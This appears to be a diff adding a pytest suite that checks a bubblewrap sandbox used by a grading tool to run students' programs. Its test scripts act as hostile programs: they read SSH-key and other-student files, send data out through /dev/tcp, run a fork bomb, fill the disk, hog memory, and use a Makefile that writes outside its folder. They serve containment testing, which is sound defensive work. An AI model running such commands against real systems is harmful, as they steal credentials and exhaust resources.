@@ -1,0 +1,163 @@
+"""programs/sandbox.py: a program fa runs for someone else sees only the system, its input and its
+output's folder, has no network, and is killed past its limits; hostile programs, each bounded
+by itself (a fork bomb of 3000 processes, a fill of 50 MB), so that a sandbox that fails cannot
+take the machine down."""
+import os
+import shutil
+import socket
+import subprocess
+import sys
+import threading
+from pathlib import Path
+
+import pytest
+from helpers import DATA, fa
+
+from fa_cli.programs import programs, sandbox
+
+
+def bwrap_works() -> bool:
+    if sandbox.missing_line():
+        return False
+    return subprocess.run(sandbox.Sandbox(gpu=False).confine(["true"]), capture_output=True).returncode == 0
+
+
+pytestmark = pytest.mark.skipif(not bwrap_works(), reason="needs bubblewrap (bwrap) able to make namespaces")
+
+
+def script(folder: Path, name: str, body: str) -> Path:
+    path = folder / name
+    path.write_text("#!/bin/sh\n" + body)
+    path.chmod(0o755)
+    return path
+
+
+def confined_run(program: Path, folder: Path, limits=sandbox.Limits(), timeout: float = 60):
+    """The program run as fa runs a case, confined: its input a file of the test's, its output in
+    a folder of its own."""
+    out = folder / "out"
+    out.mkdir(exist_ok=True)
+    inp = folder / "input.bin"
+    inp.write_bytes(b"input")
+    return programs.run(programs.Program(program.name, program), inp, out / "o.bin", sandbox.Sandbox(limits, gpu=False),
+                        timeout=timeout), out / "o.bin"
+
+
+def test_it_sees_its_input_and_output_folder_and_nothing_of_home_others_or_the_cache(tmp_path):
+    secrets = [tmp_path / "home" / ".ssh" / "id", tmp_path / "other-student" / "hw4.cu", tmp_path / "cache" / "c01.out"]
+    for secret in secrets:
+        secret.parent.mkdir(parents=True)
+        secret.write_text("TOPSECRET")
+    reads = " ".join(f'cat "{s}" >&2 && n=$((n+1));' for s in secrets)
+    (tmp_path / "run").mkdir()
+    program = script(tmp_path / "run", "peek.sh", f'n=0; {reads} cat "$1" > "$2"; exit $n\n')
+    result, out = confined_run(program, tmp_path / "run")
+    assert result.returncode == 0, result.stderr  # not one of the three read
+    assert "TOPSECRET" not in result.stderr and "No such file" in result.stderr
+    assert out.read_bytes() == b"input"  # its input read, its output written
+    unconfined = subprocess.run([str(program), str(tmp_path / "run" / "input.bin"), str(out)], capture_output=True)
+    assert unconfined.returncode == 3  # (the same script outside reads all three)
+
+
+def test_a_connection_to_a_listener_outside_is_refused_and_never_arrives(tmp_path):
+    listener = socket.socket()
+    listener.bind(("127.0.0.1", 0))
+    listener.listen()
+    listener.settimeout(5)
+    port = listener.getsockname()[1]
+    arrived = []
+    def accept() -> None:
+        try:
+            arrived.append(listener.accept())
+        except OSError:  # the time out (nothing came), or closed
+            pass
+    threading.Thread(target=accept, daemon=True).start()
+    (tmp_path / "run").mkdir()
+    program = script(tmp_path / "run", "call.sh",
+                     f'bash -c "echo stolen > /dev/tcp/127.0.0.1/{port}" && exit 9\nexit 4\n')
+    result, _ = confined_run(program, tmp_path / "run")
+    assert result.returncode == 4, result.stderr
+    threading.Event().wait(0.5)
+    assert not arrived
+    unconfined = subprocess.run([str(program), "in", "out"], capture_output=True)
+    assert unconfined.returncode == 9  # (outside, the same script reaches it)
+    listener.close()
+
+
+def test_a_fork_bomb_is_killed_with_its_namespace_and_said(tmp_path):
+    (tmp_path / "run").mkdir()
+    marker = f"30.{os.getpid()}"  # each one's sleep, found by it afterwards
+    program = script(tmp_path / "run", "bomb.sh",
+                     f'i=0; while [ $i -lt 3000 ]; do sleep {marker} & i=$((i+1)); done; wait\n')
+    result, _ = confined_run(program, tmp_path / "run", sandbox.Limits(processes=50))
+    assert result.returncode == -9 and "more than the sandbox's 50 processes" in result.stderr, result.stderr
+    left = [p for p in os.listdir("/proc") if p.isdigit() and marker in _cmdline(p)]
+    assert not left  # the whole namespace went with it
+
+
+def _cmdline(pid: str) -> str:
+    try:
+        return Path(f"/proc/{pid}/cmdline").read_bytes().decode(errors="replace")
+    except OSError:
+        return ""
+
+
+def test_one_file_past_the_size_limit_is_stopped_by_the_kernel(tmp_path):
+    (tmp_path / "run").mkdir()
+    program = script(tmp_path / "run", "fill.sh", 'head -c 50000000 /dev/zero > "$2"\n')
+    result, out = confined_run(program, tmp_path / "run", sandbox.Limits(file_bytes=1 << 20))
+    assert "SIGXFSZ" in result.stderr, (result.returncode, result.stderr)
+    assert out.stat().st_size <= 1 << 20
+
+
+def test_many_files_past_what_it_may_write_are_killed(tmp_path):
+    (tmp_path / "run").mkdir()
+    program = script(tmp_path / "run", "many.sh",
+                     'd=$(dirname "$2"); i=0; while [ $i -lt 100 ]; do head -c 500000 /dev/urandom > "$d/f$i"; '
+                     'i=$((i+1)); done\n')
+    result, out = confined_run(program, tmp_path / "run", sandbox.Limits(file_bytes=1 << 20, written_bytes=4 << 20))
+    assert result.returncode == -9 and "wrote more than the sandbox's" in result.stderr, result.stderr
+    assert sum(f.stat().st_size for f in out.parent.iterdir()) < 20 << 20
+
+
+@pytest.mark.skipif(shutil.which("python3") is None, reason="needs python3 on PATH")
+def test_memory_past_the_limit_is_refused(tmp_path):
+    (tmp_path / "run").mkdir()
+    program = script(tmp_path / "run", "hog.sh", "exec python3 -c 'b = bytearray(1 << 30)'\n")
+    result, _ = confined_run(program, tmp_path / "run", sandbox.Limits(memory_bytes=256 << 20))
+    assert result.returncode == 1 and "MemoryError" in result.stderr, result.stderr
+
+
+def test_fa_run_sandbox_builds_and_judges_a_students_program(tmp_path, cpu_program):
+    folder = tmp_path / "student"
+    folder.mkdir()
+    shutil.copy(DATA / "student_hw4.cpp", folder / "hw4.cpp")
+    env = {**os.environ, "FA_CACHE": str(tmp_path / "cache")}
+    proc = fa("run", "t01", "t02", "--program", folder / "hw4.cpp", "--sandbox", env=env, cwd=tmp_path)
+    assert proc.returncode == 0 and proc.stdout.count("PASS") >= 2, proc.stdout + proc.stderr
+
+
+def test_a_makefile_that_writes_outside_its_folder_is_contained(tmp_path):
+    folder = tmp_path / "student"
+    folder.mkdir()
+    shutil.copy(DATA / "student_hw4.cpp", folder / "hw4.cpp")
+    parsed, built = tmp_path / "written-while-read", tmp_path / "written-while-built"
+    (folder / "Makefile").write_text(f"X := $(shell touch {parsed})\nhw4: hw4.cpp\n\ttouch {built}\n"
+                                     "\tg++ -O2 -o hw4 hw4.cpp\n")
+    env = {**os.environ, "FA_CACHE": str(tmp_path / "cache")}
+    proc = fa("run", "t01", "--program", folder / "hw4.cpp", "--sandbox", env=env, cwd=tmp_path)
+    assert proc.returncode != 0 and "does not build" in proc.stderr and "touch" in proc.stderr, proc.stderr
+    assert not parsed.exists() and not built.exists()
+
+
+def test_without_bubblewrap_the_sandbox_is_one_line_that_says_how_to_get_it(tmp_path):
+    empty = tmp_path / "bin"
+    empty.mkdir()
+    for tool in ("g++", "make", "sh", "bash"):
+        if shutil.which(tool):
+            (empty / tool).symlink_to(shutil.which(tool))
+    env = {**os.environ, "PATH": str(empty), "FA_CACHE": str(tmp_path / "cache")}
+    proc = subprocess.run([sys.executable, "-m", "fa_cli", "run", "t01", "--program", "cpu", "--sandbox"],
+                          capture_output=True, text=True, env=env, cwd=Path(programs.__file__).parents[2])
+    assert proc.returncode != 0 and "Traceback" not in proc.stderr
+    assert "apt-get install bubblewrap" in proc.stderr and len(proc.stderr.strip().splitlines()) == 1, proc.stderr
